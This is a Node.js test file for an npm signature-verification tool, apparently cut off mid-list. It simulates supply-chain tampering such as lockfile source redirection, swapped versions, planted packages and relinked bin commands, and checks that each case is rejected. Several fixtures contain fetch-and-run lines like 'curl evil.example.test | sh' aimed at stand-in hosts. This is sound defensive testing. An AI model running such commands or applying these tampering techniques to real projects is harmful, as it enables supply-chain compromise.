'use strict'
// Fail closed everywhere: no tampered or unverifiable tree may pass. Each case starts from a CLEAN
// tree installed by real npm from the loopback signing registry (which verifies with exit 0),
// makes ONE change an attacker could make (a pull request editing the lockfile, a node_modules
// restored from a CI cache, a mirror, a writable shared cache), and asserts the exit code of
// `npm-sigverify verify`, the package's bucket and code in `--json`, and verifyTree()'s verdict.
const assert = require('node:assert/strict')
const crypto = require('node:crypto')
const fs = require('node:fs')
const os = require('node:os')
const path = require('node:path')
const { after, afterEach, before, describe, it } = require('node:test')

// The tool's own evidence cache and cache key live in temp folders, never in the real home.
const ISOLATED = fs.mkdtempSync(path.join(os.tmpdir(), 'sigverify-attack-home-'))
process.env.XDG_CACHE_HOME = path.join(ISOLATED, 'cache')
process.env.XDG_CONFIG_HOME = path.join(ISOLATED, 'config')
for (const name of ['NPM_SIGVERIFY_CACHE', 'NPM_SIGVERIFY_CACHE_KEY', 'NPM_SIGVERIFY_CACHE_KEY_FILE']) delete process.env[name]

const { verifyTree, verifyPackage } = require('../index.js')
const { TestRegistry } = require('./helpers/registry')
const { tarball } = require('./helpers/tarball')
const { tempDir, writeProject, npm, cli, copyProject, readJson, writeJson } = require('./helpers/project')
const { run, packRepo, markerScript, exists } = require('./helpers/install')
const { publish, tarballOf, editLock, put, relink, cacachePath, sri, jsonVerdict, listFiles } = require('./helpers/attack-kit')

const A = 'node_modules/alpha'
const BETA = 'node_modules/beta'
const NESTED_BETA = 'node_modules/gamma/node_modules/beta'
const GIT_SHA = '0123456789abcdef0123456789abcdef01234567'
// An install script that leaves build output in its package folder (scripts run there).
const BUILD_SCRIPT = 'node -e "require(\'fs\').writeFileSync(\'built.txt\', \'build output\')"'

/** A package with entry points the tarball lacks (dist/main.js, lib/feature.js, its bin). */
function kit (name, scripts) {
  return {
    name,
    version: '1.0.0',
    scripts,
    extra: {
      main: './dist/main.js',
      bin: { [name]: `./bin/${name}.js` },
      exports: { '.': './dist/main.js', './feature': './lib/feature.js', './package.json': './package.json' },
    },
    files: { 'lib/a.json': '{ "a": 1 }\n', 'lib/b/index.js': "module.exports = 'b'\n", 'docs/guide.md': '# guide\n' },
  }
}

let registry, url, npmCache, clean
// Every case's expected and actual verdict, written to $ATTACK_TABLE (JSON lines) when set.
const table = []

function record (name, expected, actual) {
  table.push({ name, expected, actual })
  if (process.env.ATTACK_TABLE) fs.appendFileSync(process.env.ATTACK_TABLE, JSON.stringify({ name, expected, actual }) + '\n')
}

before(async () => {
  registry = new TestRegistry()
  publish(registry, { name: 'alpha', version: '1.0.0', dependencies: { beta: '^1.0.0' }, extra: { bin: { alpha: 'cli.js' } }, files: { 'cli.js': '#!/usr/bin/env node\nconsole.log("alpha")\n' } })
  registry.addPackage({ name: 'beta', version: '1.0.0' })
  registry.addPackage({ name: 'beta', version: '2.0.0' })
  registry.addPackage({ name: 'gamma', version: '1.0.0', dependencies: { beta: '^2.0.0' } })
  publish(registry, { name: 'tool', version: '1.0.0', extra: { bin: { tool: 'bin/tool.js' } }, files: { 'bin/tool.js': '#!/usr/bin/env node\n', 'bin/other.js': '#!/usr/bin/env node\n' } })
  publish(registry, kit('kit'))
  publish(registry, kit('kit-built', { postinstall: BUILD_SCRIPT }))
  registry.addPackage({ name: '@acme/scoped', version: '1.0.0' })
  registry.addPackage({ name: 'devtool', version: '1.0.0' })
  registry.addPackage({ name: 'opt', version: '1.0.0' })
  registry.addPackage({ name: 'plain', version: '1.0.0' })
  registry.addPackage({ name: 'scripted', version: '1.0.0', scripts: { postinstall: markerScript('scripted.ran') } })
  url = await registry.start()
  npmCache = tempDir('attack-npm-cache')
  clean = writeProject(tempDir('attack-clean'), {
    name: 'victim',
    version: '1.0.0',
    dependencies: { alpha: '^1.0.0', gamma: '^1.0.0', tool: '1.0.0', kit: '1.0.0', 'kit-built': '1.0.0', '@acme/scoped': '^1.0.0' },
    devDependencies: { devtool: '1.0.0' },
    optionalDependencies: { opt: '1.0.0' },
  })
  await npm(['install'], { cwd: clean, registry: url, cache: npmCache })
  // The content check reads the signed tarballs from the cache npm installed from.
  fs.writeFileSync(path.join(clean, '.npmrc'), `cache=${npmCache}\n`)
})

after(() => registry.close())

/** The CLI arguments and verifyTree() options of a case's `opts`. */
function cliArgs (opts) {
  const args = []
  for (const o of opts.omit || []) args.push('--omit', o)
  if (opts.lockfileOnly) args.push('--lockfile-only')
  if (opts.contents === false) args.push('--no-content')
  return [...args, ...(opts.extra || [])]
}

/** `npm-sigverify verify --json` and verifyTree() on `dir`: the verdict of `location` in each. */
async function verdicts (dir, location, opts = {}) {
  const r = await cli(['verify', dir, '--registry', url, '--json', ...cliArgs(opts)], { env: opts.env })
  let doc = null
  try { doc = JSON.parse(r.stdout) } catch {}
  const found = doc && jsonVerdict(doc, location)
  const fromCli = { exit: r.status, status: found ? found.status : null, code: found ? found.code : null }
  let fromApi = null
  if (opts.api !== false) {
    const report = await verifyTree({ dir, registry: url, omit: opts.omit, lockfileOnly: opts.lockfileOnly, contents: opts.contents })
    const p = report.packages.find((x) => x.location === location)
    fromApi = { exit: report.exitCode, status: p ? p.status : null, code: p ? (p.code ?? null) : null, message: p && p.message }
  }
  return { run: r, doc, fromCli, fromApi }
}

/** Asserts a case: the CLI's exit code and the package's `--json` bucket and code, and the same in verifyTree(). */
async function expectVerdict (name, dir, location, expected, opts = {}) {
  const { run: r, fromCli, fromApi } = await verdicts(dir, location, opts)
  record(name, { location, ...expected }, { cli: fromCli, api: fromApi && { exit: fromApi.exit, status: fromApi.status, code: fromApi.code } })
  const context = `${name}\n${location}: ${fromApi && fromApi.message}\nstdout: ${r.stdout.slice(0, 4000)}\nstderr: ${r.stderr.slice(0, 2000)}`
  assert.deepEqual(fromCli, expected, `npm-sigverify verify --json: ${context}`)
  if (fromApi) {
    assert.deepEqual({ exit: fromApi.exit, status: fromApi.status, code: fromApi.code }, expected, `verifyTree(): ${context}`)
  }
}

const INVALID = (code) => ({ exit: 1, status: 'invalid', code })

/** Runs each case on its own copy of the clean tree. */
function cases (list) {
  for (const c of list) {
    it(`${c.name} -> ${c.expected.code || 'pass'} (exit ${c.expected.exit})`, async () => {
      const dir = copyProject(clean, 'attack')
      await c.change(dir)
      await expectVerdict(c.name, dir, c.location || A, c.expected, c.opts)
    })
  }
}

function integrityOf (name, version) {
  return registry.versions.get(name).get(version).dist.integrity
}

describe('a local folder link replaced on disk (a restored node_modules)', () => {
  const LOCAL = 'node_modules/local'
  /** The clean tree with a `file:` folder dependency, linked as npm links it. */
  function withLocal () {
    const dir = copyProject(clean, 'attack-local')
    put(dir, 'vendor/local/package.json', JSON.stringify({ name: 'local', version: '1.0.0' }))
    put(dir, 'vendor/local/index.js', "module.exports = 'local'\n")
    const manifest = readJson(path.join(dir, 'package.json'))
    manifest.dependencies.local = 'file:vendor/local'
    writeJson(path.join(dir, 'package.json'), manifest)
    editLock(dir, (p) => {
      p[''].dependencies = { ...p[''].dependencies, local: 'file:vendor/local' }
      p[LOCAL] = { resolved: 'vendor/local', link: true }
      p['vendor/local'] = { name: 'local', version: '1.0.0' }
    })
    fs.symlinkSync('../vendor/local', path.join(dir, LOCAL))
    return dir
  }
  const linkReplaced = async (dir) => {
    const { fromCli, run: r } = await verdicts(dir, LOCAL, { api: false })
    assert.deepEqual(fromCli, INVALID('EEXTRANEOUS'), r.stdout + r.stderr)
    // The API lists the lockfile entry (skipped) and the finding at that location.
    const report = await verifyTree({ dir, registry: url })
    assert.equal(report.exitCode, 1)
    assert.ok(report.packages.some((p) => p.location === LOCAL && p.status === 'invalid' && p.code === 'EEXTRANEOUS'))
  }

  it('the link as npm makes it verifies (exit 0, the folder skipped as not from a registry)', async () => {
    const { fromCli, run: r } = await verdicts(withLocal(), LOCAL)
    assert.deepEqual(fromCli, { exit: 0, status: 'skipped', code: 'ENOTREGISTRY' }, r.stdout + r.stderr)
  })

  it('a real folder of other code where the link was -> EEXTRANEOUS (exit 1)', async () => {
    const dir = withLocal()
    fs.unlinkSync(path.join(dir, LOCAL))
    put(dir, `${LOCAL}/package.json`, JSON.stringify({ name: 'local', version: '1.0.0' }))
    put(dir, `${LOCAL}/index.js`, "module.exports = 'PWNED'\n")
    await linkReplaced(dir)
  })

  it('the link pointed at a folder outside the project -> EEXTRANEOUS (exit 1)', async () => {
    const dir = withLocal()
    const evil = tempDir('attack-local-evil')
    put(evil, 'package.json', JSON.stringify({ name: 'local', version: '1.0.0' }))
    put(evil, 'index.js', "module.exports = 'PWNED'\n")
    fs.unlinkSync(path.join(dir, LOCAL))
    fs.symlinkSync(evil, path.join(dir, LOCAL))
    await linkReplaced(dir)
  })
})

describe('the clean tree', () => {
  it('verifies with exit 0: every registry package verified, the build output of an install script only reported', async () => {
    const r = await cli(['verify', clean, '--registry', url, '--json'])
    assert.equal(r.status, 0, r.stdout + r.stderr)
    const doc = JSON.parse(r.stdout)
    assert.deepEqual([...doc.invalid, ...doc.missing], [])
    assert.deepEqual(doc.verified.map((p) => p.location).sort(), [
      'node_modules/@acme/scoped', A, BETA, 'node_modules/devtool', 'node_modules/gamma', NESTED_BETA,
      'node_modules/kit', 'node_modules/kit-built', 'node_modules/opt', 'node_modules/tool',
    ])
    const report = await verifyTree({ dir: clean, registry: url })
    assert.equal(report.exitCode, 0)
    const built = report.packages.find((p) => p.location === 'node_modules/kit-built')
    assert.equal(built.status, 'verified')
    assert.deepEqual(built.contents.added, ['built.txt'])
    assert.deepEqual(built.installScripts, ['postinstall'])
    assert.ok(fs.existsSync(path.join(clean, 'node_modules/.bin/alpha')), 'npm linked the alpha bin')
    record('clean tree', { exit: 0 }, { exit: r.status })
  })
})

describe('1. lockfile injection (ELOCKFILESOURCE)', () => {
  const bad = INVALID('ELOCKFILESOURCE')
  const lock = (fn) => (dir) => editLock(dir, fn)
  /** Moves alpha's folder to `target` (relative to the project) and links it from node_modules. */
  function linkAlpha (dir, target) {
    const to = path.resolve(dir, target)
    fs.mkdirSync(path.dirname(to), { recursive: true })
    fs.cpSync(path.join(dir, A), to, { recursive: true })
    relink(dir, A, path.relative(path.join(dir, 'node_modules'), to))
    editLock(dir, (p) => {
      p[target] = { name: 'alpha', version: '1.0.0', dependencies: { beta: '^1.0.0' }, bin: { alpha: 'cli.js' } }
      p[A] = { resolved: target, link: true }
    })
  }
  function sneaky (dir, location, resolved) {
    put(dir, `${location}/package.json`, JSON.stringify({ name: 'sneaky', version: '1.0.0' }))
    put(dir, `${location}/index.js`, 'require("child_process").execSync("curl evil.example.test | sh")\n')
    editLock(dir, (p) => { p[location] = { version: '1.0.0', resolved, license: 'MIT' } })
  }
  const swapBeta = (p) => {
    p[BETA] = { version: '2.0.0', resolved: `${url}beta/-/beta-2.0.0.tgz`, integrity: integrityOf('beta', '2.0.0'), license: p[BETA].license }
  }

  cases([
    {
      name: 'a dependency package.json declares, removed from the lockfile with its folder (an install would resolve it fresh)',
      location: A,
      change: (dir) => {
        fs.rmSync(path.join(dir, A), { recursive: true, force: true })
        editLock(dir, (p) => { delete p[A] })
      },
      expected: bad,
    },
    {
      name: 'the same, checked before install (--lockfile-only)',
      location: A,
      change: (dir) => editLock(dir, (p) => { delete p[A] }),
      expected: bad,
      opts: { lockfileOnly: true },
    },
  ])
  cases([
    {
      name: 'a registry dependency resolved to a git URL',
      change: lock((p) => { p[A].resolved = `git+ssh://git@github.com/evil/alpha.git#${GIT_SHA}`; delete p[A].integrity }),
      expected: bad,
    },
    {
      name: 'a registry dependency resolved to a remote tarball on another host',
      change: lock((p) => { p[A].resolved = 'https://evil.example.test/downloads/alpha.tgz' }),
      expected: bad,
    },
    {
      name: 'a registry dependency resolved to a file: tarball in the project',
      change: (dir) => {
        put(dir, 'vendor/alpha-1.0.0.tgz', tarballOf(registry, 'alpha', '1.0.0').bytes)
        editLock(dir, (p) => { p[A].resolved = 'file:vendor/alpha-1.0.0.tgz' })
      },
      expected: bad,
    },
    {
      name: 'a registry dependency resolved to another package\'s tarball on the configured registry',
      change: lock((p) => { p[A].resolved = `${url}beta/-/beta-1.0.0.tgz` }),
      expected: bad,
    },
    {
      name: 'a nested registry dependency resolved to a remote tarball',
      location: NESTED_BETA,
      change: lock((p) => { p[NESTED_BETA].resolved = 'https://evil.example.test/beta-2.0.0.tgz' }),
      expected: bad,
    },
    {
      name: 'link: true with resolved outside the project',
      change: (dir) => linkAlpha(dir, `../${path.basename(dir)}-outside/alpha`),
      expected: bad,
    },
    {
      name: 'link: true to a folder inside the project, for a registry dependency',
      change: (dir) => linkAlpha(dir, 'vendor/alpha'),
      expected: bad,
    },
    {
      name: 'inBundle: true on a top-level entry',
      change: lock((p) => { p[A].inBundle = true }),
      expected: bad,
    },
    {
      name: 'inBundle: true on a nested entry its parent (gamma) does not bundle',
      location: NESTED_BETA,
      change: lock((p) => { p[NESTED_BETA].inBundle = true }),
      expected: bad,
    },
    {
      name: 'a production dependency marked dev: true, run with --omit dev',
      change: lock((p) => { p[A].dev = true }),
      opts: { omit: ['dev'] },
      expected: bad,
    },
    {
      name: 'a production dependency marked optional: true, run with --omit optional',
      change: lock((p) => { p[A].optional = true }),
      opts: { omit: ['optional'] },
      expected: bad,
    },
    {
      name: 'a production dependency marked peer: true, run with --omit peer',
      change: lock((p) => { p[A].peer = true }),
      opts: { omit: ['peer'] },
      expected: bad,
    },
    {
      name: 'a production dependency marked devOptional: true, run with --omit dev --omit optional',
      change: lock((p) => { p[A].devOptional = true }),
      opts: { omit: ['dev', 'optional'] },
      expected: bad,
    },
    {
      name: 'a transitive production dependency (beta, under alpha) marked dev: true, run with --omit dev',
      location: BETA,
      change: lock((p) => { p[BETA].dev = true }),
      opts: { omit: ['dev'] },
      expected: bad,
    },
    {
      name: 'resolved on another registry host (a mirror serving the same bytes) than the configured one',
      change: lock((p) => { p[A].resolved = `${url.replace('127.0.0.1', 'localhost')}alpha/-/alpha-1.0.0.tgz` }),
      expected: bad,
    },
    {
      name: 'resolved under another path of the configured host',
      change: lock((p) => { p[A].resolved = `${url}mirror/evil/alpha/-/alpha-1.0.0.tgz` }),
      expected: bad,
    },
    {
      name: 'a scoped package resolved on another registry host',
      location: 'node_modules/@acme/scoped',
      change: lock((p) => { p['node_modules/@acme/scoped'].resolved = `${url.replace('127.0.0.1', 'localhost')}@acme/scoped/-/scoped-1.0.0.tgz` }),
      expected: bad,
    },
    {
      name: 'an extra git entry no package.json asks for (its folder on disk)',
      location: 'node_modules/sneaky',
      change: (dir) => sneaky(dir, 'node_modules/sneaky', `git+ssh://git@github.com/evil/sneaky.git#${GIT_SHA}`),
      expected: bad,
    },
    {
      name: 'an extra git entry no package.json asks for, --lockfile-only (before npm ci installs it)',
      location: 'node_modules/sneaky',
      change: lock((p) => { p['node_modules/sneaky'] = { version: '1.0.0', resolved: `git+ssh://git@github.com/evil/sneaky.git#${GIT_SHA}` } }),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'a registry entry only the lockfile\'s own edge leads to (plain in alpha\'s lockfile dependencies, not in its published manifest), --lockfile-only',
      location: 'node_modules/plain',
      change: lock((p) => {
        p[A].dependencies = { ...p[A].dependencies, plain: '1.0.0' }
        p['node_modules/plain'] = { version: '1.0.0', resolved: `${url}plain/-/plain-1.0.0.tgz`, integrity: integrityOf('plain', '1.0.0'), license: 'MIT' }
      }),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'a registry entry with a postinstall script only the lockfile\'s own edge leads to, nested under gamma, --lockfile-only',
      location: 'node_modules/gamma/node_modules/scripted',
      change: lock((p) => {
        p['node_modules/gamma'].dependencies = { ...p['node_modules/gamma'].dependencies, scripted: '1.0.0' }
        p['node_modules/gamma/node_modules/scripted'] = { version: '1.0.0', resolved: `${url}scripted/-/scripted-1.0.0.tgz`, integrity: integrityOf('scripted', '1.0.0'), hasInstallScript: true, license: 'MIT' }
      }),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'an extra remote-tarball entry nested under alpha that alpha does not declare',
      location: 'node_modules/alpha/node_modules/sneaky',
      change: (dir) => sneaky(dir, 'node_modules/alpha/node_modules/sneaky', 'https://evil.example.test/sneaky-1.0.0.tgz'),
      expected: bad,
    },
    {
      name: 'a dependency swapped to a published version outside its range (beta 2.0.0 for ^1.0.0)',
      location: BETA,
      change: lock(swapBeta),
      expected: bad,
    },
    {
      name: 'a dependency swapped to a published version outside its range, --lockfile-only',
      location: BETA,
      change: lock(swapBeta),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'a dependency swapped to another published package (the beta entry installs gamma)',
      location: BETA,
      change: lock((p) => {
        p[BETA] = { name: 'gamma', version: '1.0.0', resolved: `${url}gamma/-/gamma-1.0.0.tgz`, integrity: integrityOf('gamma', '1.0.0'), dependencies: { beta: '^2.0.0' } }
      }),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'a version outside its range, package.json given an empty "overrides": {}',
      location: BETA,
      change: (dir) => { overrides(dir, {}); editLock(dir, swapBeta) },
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'a version outside its range, package.json given an override of an unrelated package',
      location: BETA,
      change: (dir) => { overrides(dir, { unrelated: '1.0.0' }); editLock(dir, swapBeta) },
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'control: the version an override of that very package asks for',
      location: BETA,
      change: (dir) => { overrides(dir, { beta: '2.0.0' }); editLock(dir, swapBeta) },
      opts: { lockfileOnly: true },
      expected: { exit: 0, status: 'verified', code: null },
    },
  ])

  // npm ci links the commands the lockfile's `bin` names (not the package.json's): a `node`
  // command pointing at a file of a signed package runs that file in every npm script.
  describe('the commands a lockfile entry links (its bin field)', () => {
    const TOOL = 'node_modules/tool'
    cases([
      {
        name: 'a command the published manifest does not declare, added to a signed package\'s entry (bin node -> cli.js), --lockfile-only',
        change: lock((p) => { p[A].bin = { alpha: 'cli.js', node: 'cli.js' } }),
        opts: { lockfileOnly: true },
        expected: bad,
      },
      {
        name: 'the same in an installed tree',
        change: lock((p) => { p[A].bin = { alpha: 'cli.js', node: 'cli.js' } }),
        expected: bad,
      },
      {
        name: 'a declared command pointed at another file of the package (tool -> bin/other.js), --lockfile-only',
        location: TOOL,
        change: lock((p) => { p[TOOL].bin = { tool: 'bin/other.js' } }),
        opts: { lockfileOnly: true },
        expected: bad,
      },
      {
        name: 'a string bin (linked under the package name) naming another file, --lockfile-only',
        location: TOOL,
        change: lock((p) => { p[TOOL].bin = './bin/other.js' }),
        opts: { lockfileOnly: true },
        expected: bad,
      },
      {
        name: 'control: the published commands written the other ways npm reads them (./cli.js, a string bin), --lockfile-only',
        change: lock((p) => { p[A].bin = './cli.js'; p[TOOL].bin = { tool: './bin//tool.js' } }),
        opts: { lockfileOnly: true },
        expected: { exit: 0, status: 'verified', code: null },
      },
      {
        name: 'control: an entry without bin (npm links nothing for it), --lockfile-only',
        change: lock((p) => { delete p[A].bin }),
        opts: { lockfileOnly: true },
        expected: { exit: 0, status: 'verified', code: null },
      },
    ])
  })

  function overrides (dir, value) {
    const file = path.join(dir, 'package.json')
    writeJson(file, { ...readJson(file), overrides: value })
  }
})

describe('1b. a declared git, tarball URL or file: source redirected in the lockfile (ELOCKFILESOURCE)', () => {
  const SHA2 = 'fedcba9876543210fedcba9876543210fedcba98'
  const files = (name, body) => ({ 'package.json': JSON.stringify({ name, version: '1.0.0' }), 'index.js': `module.exports = ${JSON.stringify(body)}\n` })
  /** Adds a dependency package.json declares with `spec`: its lockfile entry and folder, as npm writes them. */
  function declare (dir, name, spec, entry, content = files(name, 'good')) {
    const file = path.join(dir, 'package.json')
    const pkg = readJson(file)
    writeJson(file, { ...pkg, dependencies: { ...pkg.dependencies, [name]: spec } })
    fs.rmSync(path.join(dir, 'node_modules', name), { recursive: true, force: true })
    for (const [rel, text] of Object.entries(content)) put(dir, `node_modules/${name}/${rel}`, text)
    editLock(dir, (p) => {
      p[''].dependencies[name] = spec
      p[`node_modules/${name}`] = { version: '1.0.0', ...entry }
    })
  }
  /** A vendored tarball at `rel` in the project; its integrity. */
  function vendor (dir, rel, content) {
    const tgz = tarball(content)
    put(dir, rel, tgz)
    return sri(tgz)
  }
  /** A tarball as npm leaves it in its cache (by integrity) after installing it; its integrity. */
  function cached (content) {
    const tgz = tarball(content)
    const file = cacachePath(npmCache, sri(tgz))
    fs.mkdirSync(path.dirname(file), { recursive: true })
    fs.writeFileSync(file, tgz)
    return sri(tgz)
  }
  const gitSpec = `github:acme/gitdep#${GIT_SHA}`
  const git = (repo, sha) => ({ resolved: `git+ssh://git@github.com/${repo}.git#${sha}` })
  const tgzUrl = 'https://cdn.example.test/files/remote-1.0.0.tgz'
  const someSri = sri(Buffer.from('remote'))
  const list = [
    { name: 'a declared git dependency pinned to a commit, the lockfile points at another repository', dep: 'gitdep', baseline: (d) => declare(d, 'gitdep', gitSpec, git('acme/gitdep', GIT_SHA)), attack: (d) => declare(d, 'gitdep', gitSpec, git('evil/gitdep', GIT_SHA)) },
    { name: 'a declared git dependency pinned to a commit, the lockfile points at another commit', dep: 'gitdep', baseline: (d) => declare(d, 'gitdep', gitSpec, git('acme/gitdep', GIT_SHA)), attack: (d) => declare(d, 'gitdep', gitSpec, git('acme/gitdep', SHA2)) },
    { name: 'a declared git dependency, the lockfile installs a remote tarball', dep: 'gitdep', baseline: (d) => declare(d, 'gitdep', gitSpec, git('acme/gitdep', GIT_SHA)), attack: (d) => declare(d, 'gitdep', gitSpec, { resolved: 'https://evil.example.test/gitdep.tgz', integrity: someSri }) },
    { name: 'a declared tarball URL, the lockfile fetches it from another host', dep: 'remote', baseline: (d) => declare(d, 'remote', tgzUrl, { resolved: tgzUrl, integrity: cached(files('remote', 'good')) }), attack: (d) => declare(d, 'remote', tgzUrl, { resolved: 'https://evil.example.test/files/remote-1.0.0.tgz', integrity: cached(files('remote', 'good')) }) },
    {
      name: 'a declared file: tarball, the lockfile installs another tarball of the project',
      dep: 'vend',
      baseline: (d) => declare(d, 'vend', 'file:vendor/vend-1.0.0.tgz', { resolved: 'file:vendor/vend-1.0.0.tgz', integrity: vendor(d, 'vendor/vend-1.0.0.tgz', files('vend', 'good')) }),
      attack: (d) => declare(d, 'vend', 'file:vendor/vend-1.0.0.tgz', { resolved: 'file:test/fixtures/evil.tgz', integrity: vendor(d, 'test/fixtures/evil.tgz', files('vend', 'evil')) }, files('vend', 'evil')),
    },
  ]
  for (const c of list) {
    it(`${c.name} -> ELOCKFILESOURCE (exit 1)`, async () => {
      const dir = copyProject(clean, 'attack-declared')
      const location = `node_modules/${c.dep}`
      c.baseline(dir)
      const base = await verdicts(dir, location, { api: false })
      assert.deepEqual(base.fromCli, { exit: 0, status: 'skipped', code: 'ENOTREGISTRY' }, `baseline (as declared): ${base.run.stdout.slice(0, 2000)}${base.run.stderr}`)
      c.attack(dir)
      await expectVerdict(c.name, dir, location, INVALID('ELOCKFILESOURCE'))
    })
  }
})

describe('2. integrity (EINTEGRITYMISMATCH)', () => {
  const bad = INVALID('EINTEGRITYMISMATCH')
  const other = () => integrityOf('beta', '2.0.0')
  const shasum = () => registry.versions.get('alpha').get('1.0.0').dist.shasum
  cases([
    {
      name: 'two sha512 hashes, the signed one first',
      change: (dir) => editLock(dir, (p) => { p[A].integrity = `${integrityOf('alpha', '1.0.0')} ${other()}` }),
      expected: bad,
    },
    {
      name: 'two sha512 hashes, the signed one second',
      change: (dir) => editLock(dir, (p) => { p[A].integrity = `${other()} ${integrityOf('alpha', '1.0.0')}` }),
      expected: bad,
    },
    {
      name: 'two sha512 hashes, the signed one first, --lockfile-only',
      change: (dir) => editLock(dir, (p) => { p[A].integrity = `${integrityOf('alpha', '1.0.0')} ${other()}` }),
      opts: { lockfileOnly: true },
      expected: bad,
    },
    {
      name: 'only a sha1 (of the signed tarball) where sha512 was signed',
      change: (dir) => editLock(dir, (p) => { p[A].integrity = `sha1-${Buffer.from(shasum(), 'hex').toString('base64')}` }),
      expected: bad,
    },
  ])
})

describe('3. what is on disk (EEXTRANEOUS, EBINLINK, ECONTENTMODIFIED)', () => {
  const folder = (location, withManifest = true) => (dir) => {
    if (withManifest) put(dir, `${location}/package.json`, JSON.stringify({ name: path.basename(location), version: '6.6.6' }))
    put(dir, `${location}/index.js`, 'module.exports = "evil"\n')
  }
  const extraneous = INVALID('EEXTRANEOUS')
  const binLink = INVALID('EBINLINK')
  cases([
    { name: 'a top-level package folder the lockfile does not name', location: 'node_modules/evil', change: folder('node_modules/evil'), expected: extraneous },
    { name: 'a nested package folder the lockfile does not name', location: 'node_modules/alpha/node_modules/evil', change: folder('node_modules/alpha/node_modules/evil'), expected: extraneous },
    { name: 'a scoped package folder the lockfile does not name', location: 'node_modules/@evil/x', change: folder('node_modules/@evil/x'), expected: extraneous },
    { name: 'such a folder without package.json', location: 'node_modules/evil-bare', change: folder('node_modules/evil-bare', false), expected: extraneous },
    { name: 'such a folder without package.json in a scope the lockfile uses', location: 'node_modules/@acme/evil', change: folder('node_modules/@acme/evil', false), expected: extraneous },
    {
      name: 'a lockfile entry removed while its folder stays',
      location: 'node_modules/tool',
      change: (dir) => editLock(dir, (p) => { delete p['node_modules/tool'] }),
      expected: extraneous,
    },
    {
      name: 'a nested lockfile entry removed while its folder stays',
      location: NESTED_BETA,
      change: (dir) => editLock(dir, (p) => { delete p[NESTED_BETA] }),
      expected: extraneous,
    },
    {
      name: 'an extra folder whose package.json is a FIFO (reading it would wait for a writer forever)',
      location: 'node_modules/evil',
      change: (dir) => { folder('node_modules/evil', false)(dir); require('node:child_process').execFileSync('mkfifo', [path.join(dir, 'node_modules/evil/package.json')]) },
      expected: extraneous,
    },
    {
      name: 'an extra folder whose package.json links to /dev/zero (reading it would never end)',
      location: 'node_modules/evil',
      change: (dir) => { folder('node_modules/evil', false)(dir); fs.symlinkSync('/dev/zero', path.join(dir, 'node_modules/evil/package.json')) },
      expected: extraneous,
    },
    {
      name: 'a file where a package keeps its node_modules folder (a folder the inventory cannot list)',
      location: 'node_modules/alpha/node_modules',
      change: (dir) => put(dir, 'node_modules/alpha/node_modules', 'not a folder\n'),
      expected: extraneous,
    },
    { name: 'a file node_modules/alpha.js beside node_modules/alpha/ (Node loads the file first)', location: 'node_modules/alpha.js', change: (dir) => put(dir, 'node_modules/alpha.js', 'module.exports = "evil"\n'), expected: extraneous },
    { name: 'a file node_modules/alpha.json beside node_modules/alpha/', location: 'node_modules/alpha.json', change: (dir) => put(dir, 'node_modules/alpha.json', '{"evil":true}\n'), expected: extraneous },
    { name: 'a nested file node_modules/gamma/node_modules/beta.js beside beta/', location: 'node_modules/gamma/node_modules/beta.js', change: (dir) => put(dir, 'node_modules/gamma/node_modules/beta.js', 'module.exports = "evil"\n'), expected: extraneous },
    { name: '.bin/alpha relinked to another file of alpha', location: 'node_modules/.bin/alpha', change: (dir) => relink(dir, 'node_modules/.bin/alpha', '../alpha/index.js'), expected: binLink },
    { name: '.bin/alpha relinked to another package\'s file', location: 'node_modules/.bin/alpha', change: (dir) => relink(dir, 'node_modules/.bin/alpha', '../tool/bin/other.js'), expected: binLink },
    { name: '.bin/alpha relinked to another package\'s declared bin', location: 'node_modules/.bin/alpha', change: (dir) => relink(dir, 'node_modules/.bin/alpha', '../tool/bin/tool.js'), expected: binLink },
    {
      name: '.bin/alpha relinked to a file outside the project',
      location: 'node_modules/.bin/alpha',
      change: (dir) => { put(dir + '-evil', 'evil.js', '#!/bin/sh\n'); relink(dir, 'node_modules/.bin/alpha', dir + '-evil/evil.js') },
      expected: binLink,
    },
    { name: '.bin/alpha replaced by a regular file', location: 'node_modules/.bin/alpha', change: (dir) => { fs.rmSync(path.join(dir, 'node_modules/.bin/alpha')); put(dir, 'node_modules/.bin/alpha', '#!/bin/sh\ncurl evil | sh\n') }, expected: binLink },
    { name: 'a new .bin/evil link to a file no package declares as a bin', location: 'node_modules/.bin/evil', change: (dir) => relink(dir, 'node_modules/.bin/evil', '../kit/lib/b/index.js'), expected: binLink },
    {
      name: '.bin/alpha through a link in a dot folder (the text ../.x/y/../../alpha/cli.js names alpha\'s bin, the kernel opens .x/alpha/cli.js)',
      location: 'node_modules/.bin/alpha',
      change: (dir) => {
        put(dir, 'node_modules/.x/alpha/cli.js', '#!/bin/sh\ncurl evil | sh\n')
        fs.mkdirSync(path.join(dir, 'node_modules/.x/q/r'), { recursive: true })
        relink(dir, 'node_modules/.x/y', 'q/r')
        relink(dir, 'node_modules/.bin/alpha', '../.x/y/../../alpha/cli.js')
      },
      expected: binLink,
    },
    { name: 'a new nested .bin link (gamma/node_modules/.bin/evil)', location: 'node_modules/gamma/node_modules/.bin/evil', change: (dir) => relink(dir, 'node_modules/gamma/node_modules/.bin/evil', '../beta/index.js'), expected: binLink },
    {
      name: 'a package folder replaced by a file (require loads node_modules/beta as a file)',
      location: BETA,
      change: (dir) => { fs.rmSync(path.join(dir, BETA), { recursive: true }); put(dir, BETA, 'module.exports = "evil"\n') },
      expected: INVALID('ECONTENTMODIFIED'),
    },
    {
      name: 'a nested package folder deleted, so its parent loads another version (gamma now loads the top-level beta 1.0.0 for its beta 2.0.0)',
      location: NESTED_BETA,
      change: (dir) => fs.rmSync(path.join(dir, NESTED_BETA), { recursive: true }),
      expected: INVALID('ECONTENTMODIFIED'),
    },
    {
      name: 'package.json deleted from an installed package (not "not installed")',
      change: (dir) => fs.rmSync(path.join(dir, A, 'package.json')),
      expected: INVALID('ECONTENTMODIFIED'),
    },
    {
      name: 'every file of an installed package deleted, its folder left empty',
      location: 'node_modules/tool',
      change: (dir) => { fs.rmSync(path.join(dir, 'node_modules/tool'), { recursive: true }); fs.mkdirSync(path.join(dir, 'node_modules/tool')) },
      expected: INVALID('ECONTENTMODIFIED'),
    },
    {
